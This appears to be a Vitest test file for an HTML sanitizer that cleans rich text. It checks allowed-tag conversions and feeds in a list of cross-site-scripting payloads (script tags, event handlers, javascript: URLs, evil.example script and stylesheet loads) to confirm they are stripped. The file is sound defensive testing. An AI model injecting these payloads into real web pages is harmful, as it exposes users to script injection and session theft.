import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { XSS_STRINGS } from '../../../../tests/security/xss-strings.ts'
import { cleanRichText } from './clean-rich-text.ts'

/** Matches the allowed tags with their attributes; everything else must be text. */
const HARMLESS =
  /<(?:\/?(?:p|h2|h3|strong|em|ul|ol|li|blockquote|table|tbody|tr|td|th)|th scope="(?:col|row)"|img src="\/media\/[0-9a-f]{64}\.jpg" alt="[^"<>]*"(?: width="\d{1,4}" height="\d{1,4}")?|br|a href="(?:https?:|mailto:|tel:|\/(?![/\\])|#|[a-z0-9?.])[^"<>]*"(?: rel="nofollow noopener")?|\/a)>/gi

const IMAGE = `/media/${'0a'.repeat(32)}.jpg`

const remains = (html: string) => html.replaceAll(HARMLESS, '')

test.each([
  ['Sabah denizi düz olur.', '<p>Sabah denizi düz olur.</p>'],
  ['Bir\n\nİki\nÜç', '<p>Bir</p><p>İki<br>Üç</p>'],
  ['2 < 3 & 4 > 1', '<p>2 &lt; 3 &amp; 4 &gt; 1</p>'],
  ['', ''],
  ['<p></p><p><br></p>', ''],
  ['<h1>Kalkan</h1><h5>Koylar</h5>', '<h2>Kalkan</h2><h3>Koylar</h3>'],
  ['<b>kalın</b> ve <i>eğik</i>', '<p><strong>kalın</strong> ve <em>eğik</em></p>'],
  ['<div>bir</div><div>iki</div>', '<p>bir</p><p>iki</p>'],
  ['<p class="x" style="color:red">düz</p>', '<p>düz</p>'],
  ['<ul><li>bir</li><li><p>iki</p></li></ul>', '<ul><li><p>bir</p></li><li><p>iki</p></li></ul>'],
  ['<blockquote>söz</blockquote>', '<blockquote><p>söz</p></blockquote>'],
  ['<a href="/regions">bölgeler</a>', '<p><a href="/regions">bölgeler</a></p>'],
  [
    '<a href="https://ornek.tr/yol" target="_blank" onclick="x()">yol</a>',
    '<p><a href="https://ornek.tr/yol" rel="nofollow noopener">yol</a></p>',
  ],
  ['<a href="tel:+902520000000">ara</a>', '<p><a href="tel:+902520000000">ara</a></p>'],
  ['<strong><p>iç</p></strong>', '<p>iç</p>'],
  [
    `<p>koy <img src="${IMAGE}" alt=" Koyun &quot;girişi&quot; " width="1600" height="900" onload="x()">sabah</p>`,
    `<p>koy</p><img src="${IMAGE}" alt="Koyun &quot;girişi&quot;" width="1600" height="900"><p>sabah</p>`,
  ],
  [
    `<p>a<img src="https://ornek.tr${IMAGE}"><img src="/media/x.jpg"><img src="data:image/png,x"></p>`,
    '<p>a</p>',
  ],
  [
    '<table class="x"><thead><tr><th colspan="2">Ay</th><th>Fiyat</th></tr></thead><tr> <td>Mayıs</td><td></td></tr></table>',
    '<table><tbody><tr><th scope="col"><p>Ay</p></th><th scope="col"><p>Fiyat</p></th></tr><tr><td><p>Mayıs</p></td><td></td></tr></tbody></table>',
  ],
  ['<table><tr><td> </td></tr></table><td>tek</td>', '<p>tek</p>'],
  ['<h2>a<ul><li>b</li></ul>c</h2>', '<h2>a</h2><ul><li><p>b</p></li></ul><h2>c</h2>'],
])('%j becomes %j', (given, expected) => {
  expect(cleanRichText(given)).toBe(expected)
})

test.each([
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="x" onmouseover="alert(1)">x</a>',
  '<a href=\'x" onclick="alert(1)\'>x</a>',
  '<p onclick=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example";</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<p id="__proto__" name="constructor">x</p>',
])('nothing dangerous is left of %j', (vector) => {
  const clean = cleanRichText(`<p>önce</p>${vector}<p>sonra</p>`)
  expect(remains(clean)).not.toMatch(/[<>]/)
  expect(clean).not.toMatch(/<[^>]*(?: (?:on[a-z]+|style)="|"(?:javascript|data|vbscript):)/i)
  expect(cleanRichText(clean)).toBe(clean)
})

test('the corpus has at least a hundred strings, and no two are the same', () => {
  expect(new Set(XSS_STRINGS).size).toBe(XSS_STRINGS.length)
  expect(XSS_STRINGS.length).toBeGreaterThanOrEqual(100)
})

test.each(XSS_STRINGS)('nothing of the corpus is left of %j', (vector) => {
  for (const given of [
    vector,
    `<p>önce</p>${vector}<p>sonra</p>`,
    `<table><tr><td>${vector}</td></tr></table>`,
  ]) {
    const clean = cleanRichText(given)
    expect(remains(clean)).not.toMatch(/[<>]/)
    expect(cleanRichText(clean)).toBe(clean)
  }
})

const fragment = fc.constantFrom(
  ...'p h1 h2 h3 h6 strong b em i ul ol li a blockquote div span table tbody tr th td script br'
    .split(' ')
    .flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
  '<a href="/x y">',
  '<a href="https://a.example/?b=1&amp;c=\'">',
  '<a href="javascript:x">',
  `<img src="${IMAGE}" alt="a>b">`,
  '<img src="/media/x.jpg">',
  'deniz',
  ' ',
  '\n\n',
  '&',
  '&lt;',
  '&amp;lt;',
  '<',
  '>',
  '"',
  '\u00a0',
  '<!--',
  '-->',
  '<p class="',
)

test('cleaning twice changes nothing, and only allowed tags remain', () => {
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 40 }), (parts) => {
      const clean = cleanRichText(parts.join(''))
      expect(cleanRichText(clean)).toBe(clean)
      expect(remains(clean)).not.toMatch(/[<>]/)
    }),
    { numRuns: 1500 },
  )
})

test('depth and length are limited', () => {
  const deep = cleanRichText('<ul><li>'.repeat(5000) + 'derin')
  expect(deep.length).toBeLessThan(500)
  const long = cleanRichText('<p>&&&&&&&&&&</p>'.repeat(20_000))
  expect(long.length).toBeLessThanOrEqual(60_000)
  expect(cleanRichText(long)).toBe(long)
})
